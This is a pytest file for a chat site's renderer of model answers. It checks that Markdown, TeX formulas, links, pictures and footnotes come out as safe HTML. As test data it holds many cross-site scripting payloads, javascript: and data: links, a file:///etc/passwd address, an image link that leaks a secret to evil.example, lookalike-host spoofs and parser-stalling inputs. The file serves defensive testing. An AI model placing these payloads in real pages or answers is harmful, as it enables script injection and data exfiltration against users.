"""The HTML of an answer: readable, and safe whatever a model writes."""

import re

import pytest

from chatsite.chat.rendering import render, tex
from chatsite.chat.rendering.markdown import INLINE_MAX_CHARACTERS, MAX_CHARACTERS


def test_it_renders_commonmark() -> None:
    assert render("Some *words* and `code`.") == "<p>Some <em>words</em> and <code>code</code>.</p>\n"


def test_headings_go_below_those_of_the_page() -> None:
    assert render("# One\n\n## Two") == "<h3>One</h3>\n<h4>Two</h4>\n"


def test_it_renders_tables_with_alignment_but_without_inline_styles() -> None:
    html = render("| a | b |\n|---|--:|\n| 1 | 2 |")
    assert '<td class="right">2</td>' in html
    assert "style" not in html
    assert html.startswith(
        '<div class="table"><div class="table-bar"></div><div class="table-scroll" tabindex="0"><table'
    )


def test_a_cell_of_a_table_can_have_several_lines() -> None:
    html = render("| a<br>b | `<br>` |\n|---|---|\n| c <BR/> d | <br onclick=alert(1)> |\n\ne<br>f")
    assert html.count("<br>") == 2
    assert "a<br>\nb" in html
    assert "e&lt;br&gt;f" in html


def test_it_renders_strikethrough_and_task_lists() -> None:
    html = render("~~no~~\n\n- [x] bought\n- [ ] cooked")
    assert "<s>no</s>" in html
    assert '<input type="checkbox" disabled="" aria-label="done" checked=""> bought' in html
    assert '<input type="checkbox" disabled="" aria-label="to do"> cooked' in html


def test_code_says_its_language_and_is_highlighted_by_class() -> None:
    html = render("```python\ndef f(): return 1\n```")
    assert '<div class="code-bar"><span>python</span></div>' in html
    assert '<span class="k">def</span>' in html


@pytest.mark.parametrize("info", ["", "nosuchlanguage", "<script>", '"><img onerror=alert(1)>', "x" * 1000])
def test_code_in_any_language_is_shown(info: str) -> None:
    html = render(f"```{info}\na < b\n```")
    assert "a &lt; b" in html
    assert "<script" not in html
    assert "<img" not in html
    assert len(html) < 400


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("c#", "a\n" * 10_000),  # the time of its lexer grows with the cube: hours for a block that may be longer
        ("ini", ": " * 20_000),
        ("resourcebundle", "[[[[\n"),
    ],
)
def test_code_that_would_hold_up_everybody_is_shown_without_colours(language: str, code: str) -> None:
    html = render(f"```{language}\n{code}\n```")
    assert f"<code>{code}" in html
    assert "</div><pre" in html


def test_links_open_elsewhere_and_vouch_for_nothing() -> None:
    assert render("[x](https://a.example/b)") == (
        '<p><a href="https://a.example/b" target="_blank" rel="noopener noreferrer nofollow">x</a></p>\n'
    )


def test_bare_addresses_become_links() -> None:
    assert '<a href="https://a.example/b"' in render("See https://a.example/b.")


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>*{background:url(//evil.example)}</style>",
        "<a href='https://good.example' onclick=alert(1)>x</a>",
        "<b style='background:url(//evil.example)'>x</b>",
        "<form action=//evil.example><input name=password></form>",
        "a <!-- comment --> b",
    ],
)
def test_raw_html_is_shown_as_text(attack: str) -> None:
    html = render(attack)
    assert set(re.findall(r"<(\w+)", html)) <= {"p"}
    assert "&lt;" in html


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java&#10;script:alert(1)",
        "&#106;avascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "/admin/auth/user/1/delete/",
        "//evil.example",
        "?delete=1",
        "\\\\evil.example",
    ],
)
@pytest.mark.parametrize("markdown", ["[x]({})", "[x](<{}>)", "<{}>", "[x][a]\n\n[a]: {}", "![x]({})", "[![i](i)]({})"])
def test_links_lead_to_the_web_or_nowhere(address: str, markdown: str) -> None:
    html = render(markdown.format(address))
    assert all(href.startswith(("http://", "https://", "mailto:")) for href in re.findall(r'href="([^"]*)', html))


@pytest.mark.parametrize(
    "markdown",
    [
        "![alt](https://evil.example/?d=SECRET)",
        "![alt][b]\n\n[b]: https://evil.example/?d=SECRET",
        "![alt](https://evil.example/?d=SECRET 'title')",
    ],
)
def test_pictures_become_links_so_that_nothing_is_requested(markdown: str) -> None:
    html = render(markdown)
    assert "<img" not in html
    assert '<a href="https://evil.example/?d=SECRET" class="picture"' in html
    assert ">alt</a>" in html


def test_a_picture_inside_a_link_leaves_one_link() -> None:
    html = render("[![alt](https://a.example/i.png)](https://b.example/)")
    assert re.findall(r'href="([^"]*)', html) == ["https://b.example/"]
    assert ">alt</a>" in html


def test_diagrams_are_text() -> None:
    assert "<a" not in render('```mermaid\nclick A "javascript:alert(1)"\n```')


# --- Formulas -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("formula", ["$x^2$", "\\(x^2\\)"])
def test_a_formula_in_a_line_is_shown_as_one(formula: str) -> None:
    math = '<math display="inline"><mrow><msup><mi>x</mi><mn>2</mn></msup></mrow></math>'
    assert render(f"So {formula}, and **{formula}**.") == f"<p>So {math}, and <strong>{math}</strong>.</p>\n"


@pytest.mark.parametrize(
    "formula", ["$$\nx\n$$", "\\[\nx\n\\]", "$$x$$", "\\[ x \\]", "> $$\n> x\n> $$", "- $$\n  x\n  $$"]
)
def test_a_formula_in_a_line_of_its_own_is_shown_as_a_block(formula: str) -> None:
    html = render(f"So:\n{formula}\nDone.")
    assert '<math display="block"><mrow><mi>x</mi></mrow></math>' in html
    assert "$" not in html
    assert html.endswith("Done.</p>\n")


@pytest.mark.parametrize(
    "text",
    [
        "$5 and $6",
        "It costs $5, not 6$ or US$7.",
        "from $5-$6",
        "A$ and B$",
        "$HOME and $PATH",
        "\\$x\\$",
        "`$x$`",
        "$ x $",
        "$5 for this and more words$",
        "$$",
        "\\(\\)",
        "$",
        "$x",
        "$$x",
    ],
)
def test_money_and_variables_are_no_formulas(text: str) -> None:
    assert "<math" not in render(text)


@pytest.mark.parametrize(
    "source", [r"\nosuchthing{x}", r"\frac{", r"\newcommand{\a}{x}\a", "x" * 3000, "{" * 1000, r"\def\a{\a\a}\a"]
)
def test_a_formula_that_is_not_understood_is_shown_as_it_was_written(source: str) -> None:
    html = render(f"$$\n{source}\n$$")
    assert '<div class="code-bar"><span>tex</span></div>' in html
    assert re.sub("<[^>]*>", "", html).strip().removeprefix("tex") == source


@pytest.mark.parametrize(
    "source",
    [
        r"\begin{aligned}a&=b\\c&=d\end{aligned}",
        r"\begin{cases}1 & x>0\\0\end{cases}",
        r"\begin{pmatrix}1&2\\3&4\end{pmatrix}",
        r"\lim_{x \to 0} \int_0^\infty \frac{\sin x}{x}\,dx = \sqrt[3]{2} \cdot \mathbb{R} \quad \text{if it is so}",
        r"\boxed{42} \hat{x} \vec v \overline{AB} \binom{n}{k} \left(\frac{1}{2}\right) f''(x) \mathrm{m}",
    ],
)
def test_what_models_write_is_understood(source: str) -> None:
    assert '<math display="block">' in render(f"$$\n{source}\n$$")


@pytest.mark.parametrize(
    "source",
    [
        r"\href{javascript:alert(1)}{x}",
        r"\text{<img src=x onerror=alert(1)>}",
        r"\text{</math><script>alert(1)</script>}",
        r"\style{position:fixed;inset:0}{x}",
        r"\class{trouble}{x}",
        r"\unicode{3c}script\unicode{3e}",
        r"\unicode{d800}\unicode{0}\unicode{999999}",
        r"\hspace{99999em}\rule{9999em}{9999em}\raise{999em}{x}",
        r"\verb|<img src=x onerror=alert(1)>|",
        r"\includegraphics{https://evil.example/x.png}",
        r"\color{url(https://evil.example)}x",
        "<img src=a onerror=alert(1)>%",
        r"\begin{array}{<img>}x\end{array}",
        "<mglyph><style><img src=x onerror=alert(1)>",
    ],
)
@pytest.mark.parametrize("markdown", ["${}$", "$${}$$", "\\[\n{}\n\\]", "\\({}\\)"])
def test_no_formula_becomes_markup_or_leads_anywhere(source: str, markdown: str) -> None:
    html = render(markdown.replace("{}", source))
    html.encode()
    tags, attributes = set(re.findall(r"<(\w+)", html)), set(re.findall(r"<[^>]* ([\w-]+)=", html))
    assert tags <= {"p", "code", "div", "pre", "span"} | tex.TAGS
    assert attributes <= {"class", "tabindex"} | tex.ATTRIBUTES
    assert not re.search(r'"[+-]?\d\d+em"', html)


# --- Footnotes ------------------------------------------------------------------------------------------------


def test_footnotes_lead_to_their_note_and_back() -> None:
    html = render("One[^a], two[^b], one again[^a].\n\n[^b]: Second.\n[^a]: First *note*.\n\n    And more.", key="7c")
    assert html.count('<sup class="mention"><a href="#fn7c-') == 3
    assert html.index("First <em>note</em>") < html.index("And more") < html.index("Second.")
    ids = re.findall(r' id="([^"]*)"', html)
    assert sorted(ids) == ["fn7c-1", "fn7c-2", "fnref7c-1", "fnref7c-1-2", "fnref7c-2"]
    assert {f"#{name}" for name in ids} == set(re.findall(r'href="([^"]*)"', html))
    assert "_blank" not in html


def test_footnotes_of_two_answers_are_not_mixed_up() -> None:
    first, second = (set(re.findall(r' id="([^"]*)"', render("One[^1].\n\n[^1]: Note.", key=key))) for key in "ab")
    assert len(first) == len(second) == 2
    assert not first & second


@pytest.mark.parametrize(
    "text", ["[^1]: A note that nobody mentions.", "[^1]", "[^1] [^2]\n\n[^1]: a [^1]", "^[inline]"]
)
def test_odd_footnotes_are_no_trouble(text: str) -> None:
    render(text)


def test_a_link_of_a_model_does_not_lead_around_on_the_page() -> None:
    for address in ("#composer", "#m-1", "#", "#fn", "fn-1/../../admin"):
        assert "href" not in render(f"[x]({address})")


@pytest.mark.parametrize(
    ("label", "shown"),
    [
        ("https://bank.example", True),
        ("bank.example/login", True),
        ("evil.example.bank.example", True),
        ("\u202emoc.live", True),
        ("ba\u200bnk", True),
        ("our terms", False),
        ("evil.example", False),
        ("https://evil.example/path", False),
        ("www.evil.example", False),
    ],
)
def test_a_link_whose_text_names_another_place_shows_where_it_leads(label: str, shown: bool) -> None:
    assert (" (evil.example)" in render(f"[{label}](https://evil.example/path)")) == shown


def test_a_picture_whose_text_names_another_place_does_so_too() -> None:
    assert " (evil.example)" in render("![bank.example](https://evil.example/)")


def test_a_host_in_lookalike_letters_is_shown_as_it_is_resolved() -> None:
    assert "(xn--" in render("[раураl.com](https://раураl.com/)")


def test_nothing_that_a_model_writes_gets_our_classes_or_ids() -> None:
    html = render('<div class="trouble" id="composer">x</div>\n\n[x](https://a.example "t"){.button #send}')
    assert not re.search(r"<[^>]* (class|id)=", html)


def test_a_paragraph_beyond_the_limit_is_shown_as_it_is() -> None:
    # The parser's time grows with the square of some texts.
    text = "**a** " * INLINE_MAX_CHARACTERS
    assert "<strong>" not in render(text)
    assert "<strong>" in render(text[:INLINE_MAX_CHARACTERS])


def test_a_text_that_no_model_writes_is_shown_as_it_is() -> None:
    # The parser would fill the memory with an imported answer of two megabytes.
    text = "- <b>\n" * (MAX_CHARACTERS // 6 + 1)
    html = render(text)
    assert "<li>" not in html
    assert html.count("- &lt;b&gt;\n") == text.count("\n")


@pytest.mark.parametrize(
    "text", ["", " ", "\n\n", "\x00", "\ud800".encode("utf-8", "replace").decode(), "👩‍👩‍👧", "\u202e", "`" * 999]
)
def test_odd_texts_are_no_trouble(text: str) -> None:
    render(text)
